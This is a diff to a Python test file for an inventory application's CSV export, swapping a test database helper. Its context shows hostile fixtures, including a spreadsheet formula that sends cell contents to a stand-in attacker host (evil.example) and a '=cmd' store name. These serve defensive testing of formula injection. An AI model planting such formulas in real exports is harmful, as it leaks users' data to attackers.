@@ -21,10 +21,10 @@ from stockdesk.reports.spec import ReportOptions
 from stockdesk.services.accounts import users
 from stockdesk.services.catalogue import catalog, organisation
 from stockdesk.services.catalogue.item_query import ItemFilter
+from stockdesk.services.database import open_database
 from stockdesk.services.exchange.import_files import write_rejects
 from stockdesk.services.inventory import stock
 from stockdesk.ui.export import write_items_csv
-from tests.support.sqlite_template import new_sqlite_database
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -60,7 +60,7 @@ def read_as_spreadsheet(path: Path) -> list[list[str]]:
 
 @pytest.fixture
 def hostile_shop(tmp_path):
-    db = new_sqlite_database(tmp_path / "shop.sqlite")
+    db = open_database(str(tmp_path / "shop.sqlite"))
     admin = users.create_first_admin(db.uow(), email="admin@example.com", password="admin-pass-1")
     store = organisation.create_store(db.uow(), admin, code="MAIN", name="=cmd store")
     for number, name in enumerate(HOSTILE):
